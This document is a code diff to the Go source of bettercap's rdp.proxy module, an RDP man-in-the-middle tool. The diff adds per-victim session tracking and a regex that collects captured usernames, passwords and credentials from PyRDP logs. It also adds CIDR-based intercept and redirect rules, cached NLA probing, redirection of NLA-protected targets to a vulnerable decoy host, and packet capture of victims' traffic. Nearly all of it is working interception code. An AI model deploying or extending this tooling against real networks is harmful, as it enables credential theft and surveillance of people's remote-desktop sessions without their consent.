@@ -13,21 +13,79 @@ import (
     "net"
     "os"
     "regexp"
+    "strconv"
+    "strings"
+    "sync"
     "time"
     "syscall"
 
     "github.com/bettercap/bettercap/core"
+    "github.com/bettercap/bettercap/modules/rdp_proxy/dissector"
     "github.com/bettercap/bettercap/network"
     "github.com/bettercap/bettercap/session"
 
     "github.com/chifflier/nfqueue-go/nfqueue"
+    "github.com/evilsocket/islazy/tui"
     "github.com/google/gopacket"
     "github.com/google/gopacket/layers"
+    "github.com/google/gopacket/pcap"
+    "github.com/google/gopacket/pcapgo"
 )
 
+// ProxySession tracks the state of a single PyRDP subprocess spawned by
+// startProxyInstance, plus the metrics that rdp.proxy.status reports. The
+// mutex guards the fields that filterLogs mutates from its own goroutine
+// while the status handler snapshots them from the console goroutine.
+type ProxySession struct {
+    Client      string
+    Target      string // the real address matched against mod.rules, i.e. the victim.
+    Destination string // what PyRDP actually connects to: Target itself, or the NLA decoy host when Redirected.
+    Redirected  bool
+    Port        int
+    PID         int
+    Started     time.Time
+    PcapPath    string
+
+    cmd        *exec.Cmd
+    pcapHandle *pcap.Handle
+    pcapWriter *pcapgo.NgWriter
+    pcapFile   *os.File
+    pcapDone   chan bool
+    pcapWG     sync.WaitGroup
+
+    mutex       sync.Mutex
+    NumEvents   int
+    LastEvent   string
+    Credentials []string
+}
+
+var credentialEvent = regexp.MustCompile(`(?i)(mstshash=|credential|username|password)`)
+
+func (sess *ProxySession) trackEvent(line string) {
+    sess.mutex.Lock()
+    defer sess.mutex.Unlock()
+    sess.NumEvents++
+    sess.LastEvent = line
+    if credentialEvent.MatchString(line) {
+        sess.Credentials = append(sess.Credentials, line)
+    }
+}
+
+func (sess *ProxySession) snapshot() (numEvents int, lastEvent string) {
+    sess.mutex.Lock()
+    defer sess.mutex.Unlock()
+    return sess.NumEvents, sess.LastEvent
+}
+
+func (sess *ProxySession) credentialsSnapshot() []string {
+    sess.mutex.Lock()
+    defer sess.mutex.Unlock()
+    return append([]string{}, sess.Credentials...)
+}
+
 type RdpProxy struct {
     session.SessionModule
-    targets      []net.IP
+    rules        *cidrTree
     done         chan bool
     queue        *nfqueue.Queue
     queueNum     int
@@ -41,9 +99,14 @@ type RdpProxy struct {
     redirectIP   net.IP
     redirectPort int
     replay       bool
+    pcapEnabled  bool
     regexp       string
     compiled     *regexp.Regexp
-    active       map[string]exec.Cmd
+    activeMutex  sync.Mutex
+    active       map[string]*ProxySession
+    nlaCacheTTL  time.Duration
+    nlaCache     *nlaCache
+    nlaSweepDone chan bool
 }
 
 var mod *RdpProxy
@@ -51,7 +114,7 @@ var mod *RdpProxy
 func NewRdpProxy(s *session.Session) *RdpProxy {
     mod = &RdpProxy{
         SessionModule: session.NewSessionModule("rdp.proxy", s),
-        targets:       make([]net.IP, 0),
+        rules:         newCidrTree(),
         done:          make(chan bool),
         queue:         nil,
         queueNum:      0,
@@ -65,8 +128,12 @@ func NewRdpProxy(s *session.Session) *RdpProxy {
         redirectIP:    make(net.IP, 0),
         redirectPort:  3389,
         replay:        false,
+        pcapEnabled:   false,
         regexp:        "(?i)(cookie:|mstshash=|clipboard data|client info|credential|username|password|error)",
-        active:        make(map[string]exec.Cmd),
+        active:        make(map[string]*ProxySession),
+        nlaCacheTTL:   5 * time.Minute,
+        nlaCache:      newNlaCache(5 * time.Minute),
+        nlaSweepDone:  make(chan bool),
     }
 
     mod.AddHandler(session.NewModuleHandler("rdp.proxy on", "", "Start the RDP proxy.",
@@ -79,17 +146,30 @@ func NewRdpProxy(s *session.Session) *RdpProxy {
             return mod.Stop()
         }))
 
+    mod.AddHandler(session.NewModuleHandler("rdp.proxy.reload", "", "Reload targets, regexp and NLA/player settings without restarting the proxy or dropping active PyRDP sessions.",
+        func(args []string) error {
+            return mod.Reload()
+        }))
+
+    mod.AddHandler(session.NewModuleHandler("rdp.proxy.status", "", "Print the targets currently being man in the middled by an active PyRDP instance.",
+        func(args []string) error {
+            return mod.showStatus()
+        }))
+
     // Required parameters
     mod.AddParam(session.NewIntParameter("rdp.proxy.queue.num", "0", "NFQUEUE number to bind to."))
     mod.AddParam(session.NewIntParameter("rdp.proxy.port", "3389", "RDP port to intercept."))
     mod.AddParam(session.NewIntParameter("rdp.proxy.start", "40000", "Starting port for PyRDP sessions."))
     mod.AddParam(session.NewBoolParameter("rdp.proxy.replay", "false", "Specify if PyRDP shoudld save replay recording."))
+    mod.AddParam(session.NewBoolParameter("rdp.proxy.pcap", "false", "Also save a PCAPNG capture of each intercepted target's traffic under rdp.proxy.out."))
     mod.AddParam(session.NewStringParameter("rdp.proxy.command", "pyrdp-mitm.py", "", "The PyRDP base command to launch the man-in-the-middle."))
     mod.AddParam(session.NewStringParameter("rdp.proxy.out", "./pyrdp_output", "", "The output directory for PyRDP artifacts."))
-    mod.AddParam(session.NewStringParameter("rdp.proxy.targets", session.ParamSubnet, "", "Comma separated list of IP addresses to proxy to, also supports nmap style IP ranges."))
+    mod.AddParam(session.NewStringParameter("rdp.proxy.targets", session.ParamSubnet, "", "Comma separated list of IP addresses to proxy to, also supports nmap style IP ranges. Shortcut for rdp.proxy.rules entries with the intercept action."))
+    mod.AddParam(session.NewStringParameter("rdp.proxy.rules", "", "", "Comma separated list of CIDR=action entries (action is one of intercept, ignore, redirect or drop) evaluated with longest-prefix-match semantics, on top of rdp.proxy.targets."))
     mod.AddParam(session.NewStringParameter("rdp.proxy.regexp", "(?i)(cookie:|mstshash=|clipboard data|client info|credential|username|password|error)", "", "Print PyRDP logs matching this regular expression."))
     // Optional paramaters
     mod.AddParam(session.NewStringParameter("rdp.proxy.nla.mode", "IGNORE", "(IGNORE|REDIRECT)", "Specify how to handle connections to a NLA-enabled host. Either IGNORE or REDIRECT."))
+    mod.AddParam(session.NewStringParameter("rdp.proxy.nla.cache.ttl", "5m", "", "How long to cache the NLA verdict (or probe error) for a given target before probing it again, as a Go duration string."))
     mod.AddParam(session.NewStringParameter("rdp.proxy.nla.redirect.ip", "", "", "Specify IP to redirect clients that connects to NLA targets. Require rdp.proxy.nla.mode REDIRECT."))
     mod.AddParam(session.NewIntParameter("rdp.proxy.nla.redirect.port", "3389", "Specify port to redirect clients that connects to NLA targets. Require rdp.proxy.nla.mode REDIRECT."))
     mod.AddParam(session.NewStringParameter("rdp.proxy.player.ip", "", "", "Destination IP address of the PyRDP player."))
@@ -118,13 +198,98 @@ func (mod *RdpProxy) fileExists(name string) (bool, error) {
     return err != nil, err
 }
 
-func (mod *RdpProxy) isTarget(ip string) bool {
-    for _, addr := range mod.targets {
-        if addr.String() == ip {
-            return true
+// buildRules turns the rdp.proxy.targets shortcut and the rdp.proxy.rules
+// CIDR=action list into a single cidrTree. Targets are inserted first, as
+// individual /32 intercept entries, so that an explicit /32 rule for the
+// same host in rdp.proxy.rules overrides them. A wider subnet rule covering
+// a target does not: the target's /32 entry is the longer prefix and wins.
+func (mod *RdpProxy) buildRules(targets string, rawRules string) (*cidrTree, error) {
+    tree := newCidrTree()
+
+    ips, _, err := network.ParseTargets(targets, mod.Session.Lan.Aliases())
+    if err != nil {
+        return nil, err
+    }
+
+    for _, ip := range ips {
+        ipNet := &net.IPNet{IP: ip.To4(), Mask: net.CIDRMask(32, 32)}
+        if err := tree.insert(ipNet, &rdpRule{action: ruleIntercept, cidr: ipNet.String()}); err != nil {
+            return nil, err
+        }
+    }
+
+    if rawRules == "" {
+        return tree, nil
+    }
+
+    for _, entry := range strings.Split(rawRules, ",") {
+        entry = strings.TrimSpace(entry)
+        if entry == "" {
+            continue
         }
+
+        parts := strings.SplitN(entry, "=", 2)
+        if len(parts) != 2 {
+            return nil, fmt.Errorf("invalid rdp.proxy.rules entry '%s', expected CIDR=action", entry)
+        }
+
+        ipNet, err := parseCIDR(strings.TrimSpace(parts[0]))
+        if err != nil {
+            return nil, err
+        }
+
+        action, err := parseRuleAction(strings.TrimSpace(parts[1]))
+        if err != nil {
+            return nil, err
+        }
+
+        if err := tree.insert(ipNet, &rdpRule{action: action, cidr: ipNet.String()}); err != nil {
+            return nil, err
+        }
+    }
+
+    return tree, nil
+}
+
+// matchRule returns the policy that applies to dst, or nil if dst is not
+// covered by rdp.proxy.targets nor rdp.proxy.rules.
+func (mod *RdpProxy) matchRule(dst string) *rdpRule {
+    ip := net.ParseIP(dst)
+    if ip == nil {
+        return nil
     }
-    return false
+    return mod.rules.lookup(ip)
+}
+
+// getActiveSession, setActiveSession and snapshotActiveSessions are the only
+// allowed accessors for mod.active: it's written from startProxyInstance on the NFQUEUE loop's
+// goroutine and read from console command handlers (rdp.proxy.status,
+// rdp.proxy.reload, rdp.proxy off) running on a different goroutine, so
+// every access has to go through mod.activeMutex.
+func (mod *RdpProxy) getActiveSession(target string) (*ProxySession, bool) {
+    mod.activeMutex.Lock()
+    defer mod.activeMutex.Unlock()
+    sess, ok := mod.active[target]
+    return sess, ok
+}
+
+func (mod *RdpProxy) setActiveSession(target string, sess *ProxySession) {
+    mod.activeMutex.Lock()
+    defer mod.activeMutex.Unlock()
+    mod.active[target] = sess
+}
+
+// snapshotActiveSessions returns a point-in-time copy of the active session
+// list, safe to range over without holding mod.activeMutex.
+func (mod *RdpProxy) snapshotActiveSessions() []*ProxySession {
+    mod.activeMutex.Lock()
+    defer mod.activeMutex.Unlock()
+
+    sessions := make([]*ProxySession, 0, len(mod.active))
+    for _, sess := range mod.active {
+        sessions = append(sessions, sess)
+    }
+    return sessions
 }
 
 // Verify if the target says anything about enforcing NLA.
@@ -159,32 +324,60 @@ func (mod *RdpProxy) verifyNLA(target string, payload []byte) (isNla bool, err e
     return false, err
 }
 
-func (mod *RdpProxy) isNLAEnforced(target string) (nla bool, err error){
+func (mod *RdpProxy) isNLAEnforced(target string) (nla bool, err error) {
+    if nla, err, found := mod.nlaCache.get(target); found {
+        return nla, err
+    }
+
     // TCP payloads to validate if RDP and TLS are supported.
     // Will return a special value if NLA is enforced
     rdpPayload, _ := hex.DecodeString("030000130ee000000000000100080000000000")
     tlsPayload, _ := hex.DecodeString("030000130ee000000000000100080001000000")
 
-    var nlaCheck1 bool
-    var nlaCheck2 bool
+    // Run both probes concurrently instead of back to back, to halve the
+    // worst case latency of a fresh flow stalling the NFQUEUE callback.
+    rdpResult := make(chan nlaProbeResult, 1)
+    tlsResult := make(chan nlaProbeResult, 1)
+
+    go func() {
+        nlaCheck1, err := mod.verifyNLA(target, rdpPayload)
+        rdpResult <- nlaProbeResult{nla: nlaCheck1, err: err}
+    }()
 
-    if nlaCheck1, err = mod.verifyNLA(target, rdpPayload); err != nil {
+    go func() {
+        nlaCheck2, err := mod.verifyNLA(target, tlsPayload)
+        tlsResult <- nlaProbeResult{nla: nlaCheck2, err: err}
+    }()
+
+    rdp := <-rdpResult
+    tls := <-tlsResult
+
+    if rdp.err != nil {
         NewRdpProxyEvent("127.0.0.1", target, "Target unreachable or timeout during NLA validation. Will handle target as NLA.").Push()
-        return true, err
-    } else if  nlaCheck2, err = mod.verifyNLA(target, tlsPayload); err != nil {
+        mod.nlaCache.put(target, true, rdp.err)
+        return true, rdp.err
+    } else if tls.err != nil {
         NewRdpProxyEvent("127.0.0.1", target, "Target unreachable or timeout during NLA validation. Will handle target as NLA.").Push()
-        return true, err
+        mod.nlaCache.put(target, true, tls.err)
+        return true, tls.err
     }
 
     // If NLA is enforced
-    if nlaCheck1 && nlaCheck2 {
-        return true, nil
-    }
+    nla = rdp.nla && tls.nla
+
+    mod.nlaCache.put(target, nla, nil)
 
-    return false, nil
+    return nla, nil
 }
 
-func (mod *RdpProxy) startProxyInstance(client string, target string) (err error) {
+// startProxyInstance spawns a PyRDP subprocess for target (the address that
+// was actually matched against mod.rules, i.e. the victim) forwarding to
+// destination, which is either target itself or, when redirected is true,
+// the preconfigured NLA decoy host. mod.active is always keyed by target,
+// never by destination, so a later lookup for the same victim (from
+// handleRdpConnection, rdp.proxy.status or Reload) finds this session
+// regardless of where it's actually being forwarded to.
+func (mod *RdpProxy) startProxyInstance(client string, target string, destination string, redirected bool) (err error) {
     // Create a proxy agent and firewall rules.
     args := []string{
         "-l", fmt.Sprintf("%d", mod.startPort),
@@ -204,7 +397,7 @@ func (mod *RdpProxy) startProxyInstance(client string, target string) (err error
         args = append(args, fmt.Sprintf("%d", mod.playerPort))
     }
 
-    args = append(args, target)
+    args = append(args, destination)
 
     // Spawn PyRDP proxy instance
     cmd := exec.Command(mod.cmd, args...)
@@ -219,15 +412,33 @@ func (mod *RdpProxy) startProxyInstance(client string, target string) (err error
         return err
     }
 
+    sess := &ProxySession{
+        Client:      client,
+        Target:      target,
+        Destination: destination,
+        Redirected:  redirected,
+        Port:        mod.startPort,
+        PID:         cmd.Process.Pid,
+        Started:     time.Now(),
+        cmd:         cmd,
+    }
+
+    mod.setActiveSession(target, sess)
+
+    if mod.pcapEnabled {
+        if err := mod.startPcapCapture(sess); err != nil {
+            mod.Warning("rdp.proxy: could not start pcap capture for %s: %v", target, err)
+        }
+    }
+
     // Use goroutines to keep logging each instance of PyRDP
-    go mod.filterLogs(client, target, stderrPipe)
+    go mod.filterLogs(sess, stderrPipe)
 
-    mod.active[target] = *cmd
     return
 }
 
 // Filter PyRDP logs to only show those that matches mod.regexp
-func (mod *RdpProxy) filterLogs(src string, dst string, output io.ReadCloser) {
+func (mod *RdpProxy) filterLogs(sess *ProxySession, output io.ReadCloser) {
     scanner := bufio.NewScanner(output)
 
     // For every log in the queue
@@ -238,13 +449,46 @@ func (mod *RdpProxy) filterLogs(src string, dst string, output io.ReadCloser) {
             chunks := bytes.Split(text, []byte(" - "))
 
             // Get last element
-            data := chunks[len(chunks) - 1]
+            data := fmt.Sprintf("%s", chunks[len(chunks) - 1])
 
-            NewRdpProxyEvent(src, dst, fmt.Sprintf("%s", data)).Push()
+            sess.trackEvent(data)
+
+            NewRdpProxyEvent(sess.Client, sess.Target, data).Push()
         }
     }
 }
 
+// showStatus prints a snapshot of every PyRDP session currently tracked in
+// mod.active, mirroring what a tool like frpc status shows for its proxies.
+func (mod *RdpProxy) showStatus() error {
+    hits, misses := mod.nlaCache.counters()
+    fmt.Fprintf(os.Stdout, "NLA cache: %d hit(s), %d miss(es)\n\n", hits, misses)
+
+    columns := []string{"Client", "Target", "Destination", "Redirected", "Port", "PID", "Started", "Uptime", "Events", "Last Event"}
+    rows := [][]string{}
+
+    for _, sess := range mod.snapshotActiveSessions() {
+        numEvents, lastEvent := sess.snapshot()
+
+        rows = append(rows, []string{
+            sess.Client,
+            sess.Target,
+            sess.Destination,
+            strconv.FormatBool(sess.Redirected),
+            strconv.Itoa(sess.Port),
+            strconv.Itoa(sess.PID),
+            sess.Started.Format("2006-01-02 15:04:05"),
+            time.Since(sess.Started).Round(time.Second).String(),
+            strconv.Itoa(numEvents),
+            lastEvent,
+        })
+    }
+
+    tui.Table(os.Stdout, columns, rows)
+
+    return nil
+}
+
 // Adds the firewall rule for proxy instance.
 func (mod *RdpProxy) doProxy(dst string, proxyPort string) (err error) {
     _, err = core.Exec("iptables", []string{
@@ -322,8 +566,29 @@ func (mod *RdpProxy) repairFirewall() (err error) {
     return
 }
 
+func (mod *RdpProxy) nlaSweepLoop() {
+    interval := mod.nlaCacheTTL / 2
+    if interval < 30*time.Second {
+        interval = 30 * time.Second
+    }
+
+    ticker := time.NewTicker(interval)
+    defer ticker.Stop()
+
+    for {
+        select {
+        case <-ticker.C:
+            mod.nlaCache.sweep()
+        case <-mod.nlaSweepDone:
+            return
+        }
+    }
+}
+
 func (mod *RdpProxy) Configure() (err error) {
     var targets string
+    var rawRules string
+    var rawCacheTTL string
 
     golog.SetOutput(ioutil.Discard)
     mod.destroyQueue()
@@ -342,14 +607,22 @@ func (mod *RdpProxy) Configure() (err error) {
         return errors.New("rdp.proxy.queue.num must be between 0 and 65535")
     } else if err, targets = mod.StringParam("rdp.proxy.targets"); err != nil {
         return
-    } else if mod.targets, _, err = network.ParseTargets(targets, mod.Session.Lan.Aliases()); err != nil {
+    } else if err, rawRules = mod.StringParam("rdp.proxy.rules"); err != nil {
+        return
+    } else if mod.rules, err = mod.buildRules(targets, rawRules); err != nil {
         return
     } else if err, mod.regexp = mod.StringParam("rdp.proxy.regexp"); err != nil {
         return
     } else if err, mod.replay = mod.BoolParam("rdp.proxy.replay"); err != nil {
         return
+    } else if err, mod.pcapEnabled = mod.BoolParam("rdp.proxy.pcap"); err != nil {
+        return
     } else if err, mod.nlaMode = mod.StringParam("rdp.proxy.nla.mode"); err != nil {
         return
+    } else if err, rawCacheTTL = mod.StringParam("rdp.proxy.nla.cache.ttl"); err != nil {
+        return
+    } else if mod.nlaCacheTTL, err = time.ParseDuration(rawCacheTTL); err != nil {
+        return
     } else if err, mod.redirectIP = mod.IPParam("rdp.proxy.nla.redirect.ip"); err != nil {
         return
     } else if err, mod.redirectPort = mod.IntParam("rdp.proxy.nla.redirect.port"); err != nil {
@@ -378,8 +651,10 @@ func (mod *RdpProxy) Configure() (err error) {
         }
     }
 
+    mod.nlaCache = newNlaCache(mod.nlaCacheTTL)
+
     mod.Info("Starting RDP Proxy")
-    mod.Debug("Targets=%v", mod.targets)
+    mod.Debug("Targets=%v Rules=%v", targets, rawRules)
 
     // Create the NFQUEUE handler.
     mod.queue = new(nfqueue.Queue)
@@ -405,6 +680,100 @@ func (mod *RdpProxy) Configure() (err error) {
     return nil
 }
 
+// Reload re-reads the module parameters that can safely change while the
+// proxy is running (targets, regexp, nla.mode, redirect and player settings)
+// and applies them in place. queueNum and port are immutable since changing
+// either would require rebinding the NFQUEUE and rebuilding the iptables
+// chains, so Reload refuses and leaves the running configuration untouched.
+// Active PyRDP subprocesses in mod.active are never touched by a reload.
+func (mod *RdpProxy) Reload() (err error) {
+    if !mod.Running() {
+        return fmt.Errorf("%s is not running", mod.Name())
+    }
+
+    var targets string
+    var rawRules string
+    var rawCacheTTL string
+    var newPort, newQueueNum int
+
+    if err, newPort = mod.IntParam("rdp.proxy.port"); err != nil {
+        return
+    } else if newPort != mod.port {
+        return errors.New("rdp.proxy.port can't be changed with a reload, restart the module instead")
+    } else if err, newQueueNum = mod.IntParam("rdp.proxy.queue.num"); err != nil {
+        return
+    } else if newQueueNum != mod.queueNum {
+        return errors.New("rdp.proxy.queue.num can't be changed with a reload, restart the module instead")
+    }
+
+    var newRules *cidrTree
+
+    if err, targets = mod.StringParam("rdp.proxy.targets"); err != nil {
+        return
+    } else if err, rawRules = mod.StringParam("rdp.proxy.rules"); err != nil {
+        return
+    } else if newRules, err = mod.buildRules(targets, rawRules); err != nil {
+        return
+    } else if err, mod.regexp = mod.StringParam("rdp.proxy.regexp"); err != nil {
+        return
+    } else if err, mod.nlaMode = mod.StringParam("rdp.proxy.nla.mode"); err != nil {
+        return
+    } else if err, rawCacheTTL = mod.StringParam("rdp.proxy.nla.cache.ttl"); err != nil {
+        return
+    } else if mod.nlaCacheTTL, err = time.ParseDuration(rawCacheTTL); err != nil {
+        return
+    } else if err, mod.redirectIP = mod.IPParam("rdp.proxy.nla.redirect.ip"); err != nil {
+        return
+    } else if err, mod.redirectPort = mod.IntParam("rdp.proxy.nla.redirect.port"); err != nil {
+        return
+    } else if mod.redirectPort < 1 || mod.redirectPort > 65535 {
+        return errors.New("rdp.proxy.nla.redirect.port must be between 1 and 65535")
+    } else if err, mod.playerIP = mod.IPParam("rdp.proxy.player.ip"); err != nil {
+        return
+    } else if err, mod.playerPort = mod.IntParam("rdp.proxy.player.port"); err != nil {
+        return
+    } else if mod.playerPort < 1 || mod.playerPort > 65535 {
+        return errors.New("rdp.proxy.player.port must be between 1 and 65535")
+    }
+
+    if mod.nlaMode == "REDIRECT" && mod.redirectIP == nil {
+        return errors.New("rdp.proxy.nla.redirect.ip must be set when using mode REDIRECT")
+    }
+
+    if mod.regexp != "" {
+        if mod.compiled, err = regexp.Compile(mod.regexp); err != nil {
+            return
+        }
+    } else {
+        mod.compiled = nil
+    }
+
+    mod.nlaCache.ttl = mod.nlaCacheTTL
+
+    // Targets that fell out of scope (or were demoted to ignore/drop) but
+    // still have a live PyRDP session in mod.active keep running
+    // undisturbed: we just stop intercepting new connections to them by
+    // installing a firewall exception, exactly like handleRdpConnection
+    // does for a non-target.
+    for _, sess := range mod.snapshotActiveSessions() {
+        host, _, err := net.SplitHostPort(sess.Target)
+        if err != nil {
+            continue
+        }
+
+        rule := newRules.lookup(net.ParseIP(host))
+        if rule == nil || rule.action == ruleIgnore || rule.action == ruleDrop {
+            mod.doReturn(host, fmt.Sprintf("%d", mod.port))
+        }
+    }
+
+    mod.rules = newRules
+
+    mod.Info("configuration reloaded")
+
+    return nil
+}
+
 func (mod *RdpProxy) handleRdpConnection(payload *nfqueue.Payload) int {
     // Determine source and target addresses.
     p := gopacket.NewPacket(payload.Data, layers.LayerTypeIPv4, gopacket.Default)
@@ -414,11 +783,100 @@ func (mod *RdpProxy) handleRdpConnection(payload *nfqueue.Payload) int {
     client := fmt.Sprintf("%s:%s", src, sport)
     target := fmt.Sprintf("%s:%s", dst, dport)
 
-    if mod.isTarget(dst) {
+    // Independently of whether we'll end up spawning PyRDP, try to dissect
+    // the handshake from the raw bytes the NFQUEUE gave us before the packet
+    // is dropped, and emit a first-class event for it.
+    var handshake *dissector.Handshake
+    if appLayer := p.ApplicationLayer(); appLayer != nil {
+        if hs, err := dissector.ParseConnectionRequest(appLayer.Payload()); err == nil {
+            handshake = hs
+
+            NewRdpProxyEvent(client, target, fmt.Sprintf(
+                "RDP handshake seen: cookie=%q mstshash=%q protocols=0x%x",
+                hs.Cookie, hs.MSTSHash, uint32(hs.RequestedProtocols),
+            )).Push()
+        }
+    }
+
+    rule := mod.matchRule(dst)
+
+    if rule == nil {
+        NewRdpProxyEvent(client, target, "Non-target, won't intercept.").Push()
+
+        // Add an exception in the firewall to avoid intercepting packets to this destination and port
+        mod.doReturn(dst, dport)
+    } else if rule.action == ruleDrop {
+        NewRdpProxyEvent(client, target, fmt.Sprintf("Target matches rule %s=drop, dropping.", rule.cidr)).Push()
+    } else if rule.action == ruleIgnore {
+        NewRdpProxyEvent(client, target, fmt.Sprintf("Target matches rule %s=ignore, won't intercept.", rule.cidr)).Push()
 
+        // Add an exception in the firewall to avoid intercepting packets to this destination and port
+        mod.doReturn(dst, dport)
+    } else if rule.action == ruleRedirect {
+        // A redirect rule scopes the NLA-enforced -> redirect decision to this
+        // subnet, it doesn't bypass the NLA check: a target in range that
+        // doesn't enforce NLA is still directly, usefully MITM'd.
         // Check if the destination IP already has a PyRDP session active, if so, do nothing.
-        if _, ok :=  mod.active[target]; !ok {
-            targetNLA, _ := mod.isNLAEnforced(target)
+        if _, ok := mod.getActiveSession(target); !ok {
+            var targetNLA bool
+
+            if handshake != nil && handshake.RequestedProtocols != 0 && !handshake.RequestedProtocols.RequestsHybrid() {
+                // The client itself never asked for CredSSP, so it wouldn't
+                // perform NLA even if the server enforced it: skip the two
+                // synchronous TCP probes entirely.
+                targetNLA = false
+            } else {
+                targetNLA, _ = mod.isNLAEnforced(target)
+            }
+
+            if targetNLA {
+                // Start a PyRDP instance to the preconfigured vulnerable host
+                // and forward packets to the target to this host instead.
+                NewRdpProxyEvent(client, target, fmt.Sprintf("Target matches rule %s=redirect and has NLA enabled, forwarding to the vulnerable host.", rule.cidr)).Push()
+
+                redirectTarget := fmt.Sprintf("%s:%d", mod.redirectIP.String(), mod.redirectPort)
+                err := mod.startProxyInstance(client, target, redirectTarget, true)
+
+                if err != nil {
+                    // Add an exception in the firewall to avoid intercepting packets to this destination and port
+                    mod.doReturn(dst, dport)
+                    payload.SetVerdict(nfqueue.NF_DROP)
+
+                    return 0
+                }
+
+                mod.doProxy(dst, fmt.Sprintf("%d", mod.startPort))
+                mod.startPort += 1
+            } else {
+                // Starts a PyRDP instance directly against the real target.
+                NewRdpProxyEvent(client, target, fmt.Sprintf("Target matches rule %s=redirect but doesn't have NLA enabled, intercepting directly.", rule.cidr)).Push()
+                if err := mod.startProxyInstance(client, target, target, false); err != nil {
+                    // Add an exception in the firewall to avoid intercepting packets to this destination and port
+                    mod.doReturn(dst, dport)
+                    payload.SetVerdict(nfqueue.NF_DROP)
+
+                    return 0
+                }
+
+                // Add a NAT rule in the firewall for this particular target IP
+                mod.doProxy(dst, fmt.Sprintf("%d", mod.startPort))
+                mod.startPort += 1
+            }
+        }
+    } else {
+        // rule.action == ruleIntercept: fall back to the global NLA policy.
+        // Check if the destination IP already has a PyRDP session active, if so, do nothing.
+        if _, ok := mod.getActiveSession(target); !ok {
+            var targetNLA bool
+
+            if handshake != nil && handshake.RequestedProtocols != 0 && !handshake.RequestedProtocols.RequestsHybrid() {
+                // The client itself never asked for CredSSP, so it wouldn't
+                // perform NLA even if the server enforced it: skip the two
+                // synchronous TCP probes entirely.
+                targetNLA = false
+            } else {
+                targetNLA, _ = mod.isNLAEnforced(target)
+            }
 
             if targetNLA {
                 if mod.nlaMode == "REDIRECT" {
@@ -427,7 +885,7 @@ func (mod *RdpProxy) handleRdpConnection(payload *nfqueue.Payload) int {
                     NewRdpProxyEvent(client, target, "Target has NLA enabled and mode REDIRECT, forwarding to the vulnerable host.").Push()
 
                     redirectTarget := fmt.Sprintf("%s:%d", mod.redirectIP.String(), mod.redirectPort)
-                    err := mod.startProxyInstance(client, redirectTarget)
+                    err := mod.startProxyInstance(client, target, redirectTarget, true)
 
                     if err != nil {
                         // Add an exception in the firewall to avoid intercepting packets to this destination and port
@@ -448,7 +906,7 @@ func (mod *RdpProxy) handleRdpConnection(payload *nfqueue.Payload) int {
             } else {
                 // Starts a PyRDP instance.
                 NewRdpProxyEvent(client, target, "Target doesn't have NLA enabled, intercepting.").Push()
-                if err := mod.startProxyInstance(client, target); err != nil {
+                if err := mod.startProxyInstance(client, target, target, false); err != nil {
                     // Add an exception in the firewall to avoid intercepting packets to this destination and port
                     mod.doReturn(dst, dport)
                     payload.SetVerdict(nfqueue.NF_DROP)
@@ -461,11 +919,6 @@ func (mod *RdpProxy) handleRdpConnection(payload *nfqueue.Payload) int {
                 mod.startPort += 1
             }
         }
-    } else {
-        NewRdpProxyEvent(client, target, "Non-target, won't intercept.").Push()
-
-        // Add an exception in the firewall to avoid intercepting packets to this destination and port
-        mod.doReturn(dst, dport)
     }
 
     // Force a retransmit to trigger the new firewall rules. (TODO: Find a more efficient way to do this.)
@@ -492,8 +945,11 @@ func (mod *RdpProxy) Start() error {
 
         defer mod.destroyQueue()
 
+        go mod.nlaSweepLoop()
+
         mod.queue.Loop()
 
+        mod.nlaSweepDone <- true
         mod.done <- true
     })
 }
@@ -502,10 +958,15 @@ func (mod *RdpProxy) Stop() error {
     return mod.SetRunning(false, func() {
         mod.queue.StopLoop()
         mod.configureFirewall(false)
-        for _, cmd := range mod.active {
-            cmd.Process.Kill() // FIXME: More graceful way to shutdown proxy agents?
+        for _, sess := range mod.snapshotActiveSessions() {
+            sess.cmd.Process.Kill() // FIXME: More graceful way to shutdown proxy agents?
+            if mod.pcapEnabled {
+                mod.stopPcapCapture(sess)
+            }
         }
 
+        mod.writeSessionIndex()
+
         <-mod.done
     })
 }